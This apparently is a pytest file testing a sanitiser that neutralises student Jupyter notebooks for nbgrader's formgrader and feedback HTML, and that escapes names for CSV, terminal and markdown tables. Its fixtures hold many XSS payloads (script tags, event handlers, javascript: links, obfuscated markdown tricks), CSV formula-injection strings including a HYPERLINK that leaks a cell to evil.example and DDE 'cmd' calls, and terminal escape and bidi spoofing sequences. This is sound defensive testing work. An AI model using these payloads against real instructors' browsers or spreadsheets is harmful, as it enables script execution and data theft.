"""course_admin.grading.sanitize (with html_cleaning, markdown_cleaning and escaping): students'
notebooks made inert for formgrader and the feedback HTML, names and messages made safe for a
spreadsheet, a terminal and a markdown table.

Each payload is checked gone from the cleaned notebook AND from the HTML nbconvert renders
from it (what the instructor's browser gets); safe content is checked still there, so the
sanitiser is not passing by blanking everything.
"""

from __future__ import annotations

import base64
import copy
import json
import re

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell
from traitlets.config import Config

from course_admin.grading.escaping import csv_cell, markdown_cell, plain_text
from course_admin.grading.html_cleaning import html_problems
from course_admin.grading.markdown_cleaning import render_markdown, sanitize_markdown
from course_admin.grading.sanitize import SanitizeNotebook, feedback_config, sanitize_notebook

PNG = "iVBORw0KGgoAAAANSUhEUgAAAAYAAAAGCAIAAABvrngfAAAAEUlEQVR4nGM4o6SEhhhoKwQAnRImQQyZUMYAAAAASUVORK5CYII="
JS = "alert('PWNED')"
SVG_EVIL = (
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script>'
    '<foreignObject><img src=x onerror="alert(3)"></foreignObject>'
    '<a href="javascript:alert(4)"><text>link</text></a><rect width="5" height="5" fill="red"/></svg>'
)
SAFE_MARKDOWN = (
    "Some **bold** text, math $a<b$ and $$x<y$$, a table:\n\n"
    "| a | b |\n|---|---|\n| 1 | 2 |\n\n"
    '<img src="https://example.org/pic.png" alt="remote"> ![dot](data:image/png;base64,' + PNG + ")\n\n"
    "![attached](attachment:dot.png) `inline <code>` and\n\n```python\nif a < b:\n    print('<b>')\n```\n"
)


def _markdown(text):
    return render_markdown(text)


def _payload_notebook() -> nbformat.NotebookNode:
    """One cell per payload, plus safe cells; outputs as a kernel would have stored them."""
    cells = [
        new_markdown_cell(f'<script>{JS}</script>Text before <img src=x onerror="{JS}"> after'),  # 1
        new_markdown_cell(f'[click](javascript:{JS}) <a href="javascript:{JS}">a</a> <a href="vbscript:x">v</a>'),  # 2
        new_markdown_cell('<iframe src="https://evil.example"></iframe><object data="x"></object><embed src="x">'
                          '<form action="/api/kernels"><button>go</button></form><base href="https://evil.example/">'
                          '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><link rel="stylesheet" href="x">'
                          '<style>body{background:url("javascript:alert(1)")}</style>'
                          '<a href="data:text/html;base64,PHNjcmlwdD4=">d</a> kept'),  # 3
        new_markdown_cell(SVG_EVIL + " svg inline"),  # 4
        new_code_cell("%%html\n<script>...</script>", outputs=[
            new_output("display_data", data={"text/html": f"<b>magic</b><script>{JS}</script>", "text/plain": "<HTML>"}),
        ]),  # 5
        new_code_cell("%%javascript", outputs=[
            new_output("display_data", data={"application/javascript": JS, "text/plain": "<Javascript>"}),
            new_output("display_data", data={"text/javascript": JS}),
            new_output("display_data", data={"application/vnd.jupyter.widget-view+json": {"model_id": "x"}}),
        ]),  # 6
        new_code_cell("Markdown(...)", outputs=[
            new_output("execute_result", data={"text/markdown": f'md *out* <img src=x onerror="{JS}">'}, execution_count=3),
        ]),  # 7
        new_code_cell("SVG(...)", outputs=[new_output("display_data", data={"image/svg+xml": SVG_EVIL})]),  # 8
        new_code_cell("plot()", outputs=[
            new_output("display_data", data={"image/png": PNG, "text/plain": "<Figure>"}),
            new_output("stream", name="stdout", text="<script>printed</script>\n"),
        ]),  # 9
        new_markdown_cell(SAFE_MARKDOWN),  # 10
        new_raw_cell(f"<b>raw</b><script>{JS}</script>", metadata={"raw_mimetype": "text/html"}),  # 11
    ]
    cells[9]["attachments"] = {"dot.png": {"image/png": PNG}}
    cells[0]["attachments"] = {
        "evil.svg": {"image/svg+xml": base64.b64encode(SVG_EVIL.encode()).decode()},
        "page.html": {"text/html": base64.b64encode(b"<script>alert(1)</script>").decode()},
    }
    notebook = new_notebook(cells=cells)
    notebook.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {}}}
    return notebook


@pytest.fixture(scope="module")
def cleaned():
    notebook = _payload_notebook()
    notes = sanitize_notebook(notebook)
    return notebook, notes


def _rendered_markdown(notebook) -> str:
    return "\n".join(render_markdown(c.source, c.get("attachments")) for c in notebook.cells if c.cell_type == "markdown")


def test_every_payload_is_gone_from_the_notebook(cleaned):
    notebook, notes = cleaned
    cells = notebook.cells
    text = json.dumps([c.source for c in cells if c.cell_type != "code"]
                      + [o.get("data", {}) for c in cells if c.cell_type == "code" for o in c.outputs])
    for fragment in ("<script", "onerror", "onload", "javascript:", "vbscript:", "<iframe", "<object", "<embed",
                     "<form", "<base", "<meta", "<link", "<style", "data:text/html", "foreignObject", "PWNED"):
        assert fragment.lower() not in text.lower(), fragment
    mimes = {m for c in cells if c.cell_type == "code" for o in c.outputs for m in o.get("data", {})}
    assert not mimes & {"application/javascript", "text/javascript", "application/vnd.jupyter.widget-view+json"}
    assert "widgets" not in notebook.metadata
    # and nothing live once rendered by nbconvert's markdown renderer
    assert html_problems(_rendered_markdown(notebook), generated=True) == []
    assert notes, "the payloads should be reported"


def test_what_was_removed_is_reported_per_cell(cleaned):
    _, notes = cleaned
    joined = "\n".join(notes)
    assert "cell 1 (markdown): <script> removed" in joined
    assert "cell 1 (markdown): onerror= removed from <img>" in joined
    assert "cell 2 (markdown): javascript: link removed" in joined
    assert "cell 3 (markdown): <iframe> removed" in joined
    assert "cell 5, text/html output: <script> removed" in joined
    assert re.search(r"cell 6: application/javascript.* output removed", joined)
    assert "cell 1: text/html attachment 'page.html' removed" in joined
    assert all(len(note) < 200 for note in notes)


def test_safe_content_survives(cleaned):
    notebook, _ = cleaned
    cells = notebook.cells
    assert cells[9].source == SAFE_MARKDOWN.replace("$a<b$", "$a< b$").replace("$$x<y$$", "$$x< y$$")
    html = render_markdown(cells[9].source, cells[9].attachments)
    assert "<strong>bold</strong>" in html
    assert "$a&lt; b$" in html and "$$x&lt; y$$" in html  # MathJax typesets a< b as a<b
    assert "<table>" in html and "<td>1</td>" in html
    assert '<img src="https://example.org/pic.png" alt="remote">' in html
    assert f'src="data:image/png;base64,{PNG}"' in html  # the markdown image and the attachment
    assert "<code>inline &lt;code&gt;</code>" in html and "print" in html
    plot = cells[8].outputs
    assert plot[0].data == {"image/png": PNG, "text/plain": "<Figure>"}
    assert plot[1].text == "<script>printed</script>\n"  # a stream is rendered escaped: kept as printed
    assert cells[4].outputs[0].data["text/html"] == "<b>magic</b>"
    assert "md *out*" in cells[6].outputs[0].data["text/markdown"]
    assert cells[6].outputs[0].execution_count == 3
    svg = cells[7].outputs[0].data["image/svg+xml"]
    assert "<rect" in svg and 'fill="red"' in svg
    assert cells[10].source.startswith("<b>raw</b>")
    assert cells[0].attachments["evil.svg"]["image/svg+xml"]  # cleaned, not dropped
    assert "page.html" in cells[0].attachments  # a placeholder image: a reference to it still renders
    assert "Text before" in cells[0].source and "after" in cells[0].source
    assert "kept" in cells[2].source


def test_a_javascript_output_alone_leaves_a_note(cleaned):
    notebook, _ = cleaned
    outputs = notebook.cells[5].outputs
    assert outputs[0].data == {"text/plain": "<Javascript>"}
    assert outputs[1].data == {"text/plain": "[removed by the grader: text/javascript]"}


def test_idempotent(cleaned):
    notebook, _ = cleaned
    again = copy.deepcopy(notebook)
    assert sanitize_notebook(again) == []
    assert again == notebook


def test_the_cleaned_notebook_is_still_valid(cleaned):
    notebook, _ = cleaned
    nbformat.validate(notebook)


@pytest.mark.parametrize(
    "text",
    [
        '<img src=x alt="$" onerror="alert(1)" title="$">',  # math delimiters inside an attribute
        '<a title="`"><img src=x onerror=alert(1)>`">',  # a code span that is really an attribute
        "\\`<script>alert(1)</script>\\`",  # escaped backticks are not code
        "$\n<script>alert(1)</script>\n$",  # an HTML block inside "math"
        "<scr<!-- -->ipt>alert(1)</script>",  # a tag put together by removing a comment
        "<!--> <img src=x onerror=alert(1)> -->",  # <!--> ends a comment in HTML5
        "[x]: javascript:alert(1)\n\n[y][x]",  # a reference link
        "[x](jav&#x61;script:alert(1)) [y](<javascript:alert(1)>) [z]( JaVaScRiPt:alert(1))",
        "<a href=' java\tscript:alert(1)'>x</a> <a href=\"&#106;avascript:alert(1)\">y</a>",
        "<svg/onload=alert(1)> <math><mi xlink:href=javascript:alert(1)>x</mi></math>",
        "<details open ontoggle=alert(1)><summary>s</summary></details>",
        '<div style="background:url(javascript:alert(1))">css</div><span style="width: expression(alert(1))">e</span>',
        "$\\href{javascript:alert(1)}{click}$",
        "<img src=x onerror=alert(1)//",  # never closed
        "\\begin{equation} <img src=x onerror=alert(1)> \\end{equation}",
        "```x`\n<img src=x onerror=alert(1)>\n```",  # not a fence: an info string with a backtick
    ],
)
def test_tricky_markdown_is_inert_once_rendered(text):
    cleaned = sanitize_markdown(text)
    assert html_problems(render_markdown(cleaned), generated=True) == [], cleaned
    assert "javascript:alert" not in re.sub(r"\s", "", cleaned.lower()) or cleaned.startswith("```")
    assert sanitize_markdown(cleaned) == cleaned


def test_markdown_that_cannot_be_cleaned_piece_by_piece_is_shown_as_code():
    huge = "\\begin{a}x " * 200 + "<img src=x onerror=alert(1)>"
    notes: set[str] = set()
    cleaned = sanitize_markdown(huge, notes)
    assert cleaned.startswith("```") and "<pre>" in render_markdown(cleaned)
    assert html_problems(render_markdown(cleaned), generated=True) == []
    assert notes == {"markdown too long or complex to check shown as code"}


def test_ordinary_markdown_is_left_exactly_as_written():
    text = (
        "# Title\n\n> a quote & more\n\n- item *one*\n- [x] done\n\n1. first\n\nA <b>bold</b> word, "
        '<span style="color: red">red</span>, <br>, <sup>2</sup>, <div class="alert alert-info">note</div>\n\n'
        "x > 3 and 4 < 5, <https://example.org>, <me@example.org>, [link](https://example.org \"t\")\n\n"
        "$$\\begin{aligned} a &= b \\\\ c &\\le d \\end{aligned}$$ and \\(x^2\\)"
    )
    assert sanitize_markdown(text) == text


@pytest.mark.parametrize(
    "notebook",
    [
        {},
        {"cells": None},
        {"cells": "nope", "metadata": []},
        {"cells": [None, 3, "x", {"cell_type": "markdown"}, {"cell_type": "markdown", "source": ["a", 1]}]},
        {"cells": [{"cell_type": "code", "source": ["x"], "outputs": "bad"}]},
        {"cells": [{"cell_type": "code", "source": "x", "execution_count": "<script>", "outputs": [
            None, {"output_type": "stream", "text": ["a", "b"]}, {"output_type": "weird"},
            {"output_type": "display_data", "data": {"text/html": 5, "image/png": [PNG], "text/plain": ["a"]}},
            {"output_type": "display_data", "data": "notadict", "metadata": 7},
            {"output_type": "display_data", "data": {"image/png": 'x" onerror="alert(1)', "text/plain": "p"}},
            {"output_type": "execute_result", "data": {"text/html": ["<b>", "x</b><script>y</script>"]},
             "execution_count": "<img src=x onerror=alert(1)>"},
            {"output_type": "error", "ename": None, "evalue": 3, "traceback": "tb"},
        ]}]},
        {"cells": [{"cell_type": "markdown", "source": "![x](attachment:missing.png)", "attachments": {
            "a": "not a bundle", "b": {"image/svg+xml": "!!!not base64!!!"}, "c": {"text/html": 3},
            "d": {"image/png": '"><script>alert(1)</script>'}}}]},
        {"cells": [{"cell_type": "markdown", "source": "x", "metadata": {
            "nbgrader": {"grade_id": '"><script>alert(1)</script>', "grade": True}}}]},
        {"cells": [{"cell_type": "markdown", "source": "x", "metadata": {"nbgrader": {"grade_id": "ok", "comment": 5}}}]},
    ],
)
def test_odd_notebooks_never_raise(notebook):
    notes = sanitize_notebook(notebook)
    assert isinstance(notes, list)
    text = json.dumps(notebook, default=str)
    assert "<script" not in text and "onerror" not in text
    assert sanitize_notebook(notebook) == []  # idempotent, even here


def test_non_integer_execution_counts_are_dropped():
    """nbconvert prints ``In [{{ execution_count }}]`` unescaped; the kernel (the student) sets it."""
    notebook = {"cells": [{"cell_type": "code", "source": "", "execution_count": "<script>x</script>", "outputs": [
        {"output_type": "execute_result", "data": {"text/plain": "1"}, "metadata": {}, "execution_count": "<b>"}]}]}
    sanitize_notebook(notebook)
    assert notebook["cells"][0]["execution_count"] is None
    assert notebook["cells"][0]["outputs"][0]["execution_count"] is None


# --------------------------------------------------------------------------------------
# The feedback HTML, rendered as nbgrader's GenerateFeedback renders it


def _feedback_html(notebook, config: Config) -> str:
    """``notebook`` rendered by the exporter nbgrader's ``GenerateFeedback`` builds from
    ``config`` (its template, template paths and preprocessors), without a gradebook:
    ``GetGrades`` is left out and its resources given by hand."""
    from nbgrader.converters import GenerateFeedback
    from nbgrader.coursedir import CourseDirectory
    from nbgrader.preprocessors import GetGrades

    converter = GenerateFeedback(coursedir=CourseDirectory(config=config), config=config)
    exporter = converter.exporter_class(parent=converter, config=converter.config)
    for preprocessor in converter.preprocessors:
        if preprocessor is not GetGrades:
            exporter.register_preprocessor(preprocessor)
    resources = {"nbgrader": {"notebook": "hostile", "score": 1.0, "max_score": 3.0, "late_penalty": 0}}
    html, _ = exporter.from_notebook_node(copy.deepcopy(notebook), resources=resources)
    return html


def _scripts(html: str) -> set[str]:
    return set(re.findall(r"<script\b[^>]*>.*?</script>", html, flags=re.S | re.I))


def _hostile_for_feedback() -> nbformat.NotebookNode:
    notebook = _payload_notebook()
    for cell in notebook.cells:  # the student's markers, to find in the HTML
        if cell.cell_type == "markdown":
            cell.source = cell.source.replace(JS, "alert('PWNED')")
    notebook.cells.append(new_markdown_cell(f'<img src=x onerror="{JS}"> ![x](javascript:{JS})'))
    return notebook


def test_sanitize_html_alone_leaves_markdown_cells_live_in_the_feedback_template():
    """Why ``feedback_config`` adds a preprocessor: nbgrader's feedback template renders
    markdown cells without nbconvert's ``clean_html``, whatever ``sanitize_html`` says."""
    config = Config()
    config.HTMLExporter.sanitize_html = True
    html = _feedback_html(_hostile_for_feedback(), config)
    assert 'onerror="alert' in html
    assert "<script>alert('PWNED')</script>" in html


def test_feedback_config_leaves_nothing_of_the_student_executable():
    config = feedback_config(Config())
    assert SanitizeNotebook in config.GenerateFeedback.preprocessors
    benign = _feedback_html(new_notebook(cells=[new_markdown_cell("hello")]), feedback_config(Config()))
    html = _feedback_html(_hostile_for_feedback(), config)
    assert _scripts(html) <= _scripts(benign), "a script that is not the template's own"
    assert "PWNED" not in html
    lowered = re.sub(r"<style\b.*?</style>", "", html, flags=re.S | re.I).lower()  # the template's own CSS (Bootstrap)
    for fragment in ("onerror", "onload", "javascript:", "vbscript:", "<iframe", "<object", "<embed", "<form",
                     "data:text/html", "foreignobject"):
        assert fragment not in lowered, fragment
    assert not re.search(r"<[^>]+\son\w+\s*=", lowered), "an event handler attribute"
    # and the safe content is there
    assert "<strong>bold</strong>" in html and "<td>1</td>" in html
    assert "$a&lt; b$" in html
    assert f"data:image/png;base64,{PNG}" in html
    assert re.search(r'<img [^>]*src="https://example.org/pic.png"', html)


def test_feedback_config_keeps_existing_preprocessors_and_is_idempotent():
    from nbgrader.preprocessors import GetGrades

    config = Config()
    config.GenerateFeedback.preprocessors = [GetGrades]
    feedback_config(feedback_config(config))
    assert config.GenerateFeedback.preprocessors == [GetGrades, SanitizeNotebook]
    assert "sanitize_html" not in config.HTMLExporter
    assert feedback_config(Config(), nbconvert_sanitizer=True).HTMLExporter.sanitize_html is True


# --------------------------------------------------------------------------------------
# CSV, terminal, markdown table


@pytest.mark.parametrize(
    "value, expected",
    [
        ('=HYPERLINK("http://evil.example/?x="&A1,"click")', '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("+1+cmd|x", "'+1+cmd|x"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-1", "-1"),
        ("-0.5", "-0.5"),
        ("+3", "+3"),
        ("-", "'-"),
        ("alice", "alice"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_csv_cell(value, expected):
    assert csv_cell(value) == expected


def test_plain_text_escapes_terminal_controls_and_bidi():
    assert plain_text("\x1b[2K\rfake 5/5\n") == "\\x1b[2K\\rfake 5/5\\n".replace("\\r", "\\x0d").replace("\\n", "\\x0a")
    assert plain_text("evil\u202egnp.exe") == "evil\\u202egnp.exe"
    assert plain_text("a\u2066b\u2069c\tx\x7f\x9b") == "a\\u2066b\\u2069c\\x09x\\x7f\\x9b"
    assert plain_text("Юлия 王小明 José") == "Юлия 王小明 José"
    assert plain_text(plain_text("\x1b")) == "\\x1b"


def test_markdown_cell_cannot_break_a_table_row():
    value = "a|b`c\\d<script>[x](javascript:y)\n| injected | row |"
    cell = markdown_cell(value)
    assert "\n" not in cell and "<" not in cell
    assert re.search(r"(?<!\\)\|", cell) is None  # every | escaped
    row = f"| {cell} | 1 |"
    html = _markdown("| name | score |\n|---|---|\n" + row)
    assert html.count("<td>") == 2 and "<a " not in html and "<script" not in html
    assert markdown_cell("Юлия") == "Юлия"


def test_undecodable_file_name_bytes_are_shown_not_written_raw():
    name = "\udce9mile\x1b"  # b"\xe9mile" read with surrogateescape, then an escape character
    for clean in (plain_text(name), markdown_cell(name), csv_cell(name)):
        clean.encode("utf-8")  # writable
        assert "xe9mile" in clean
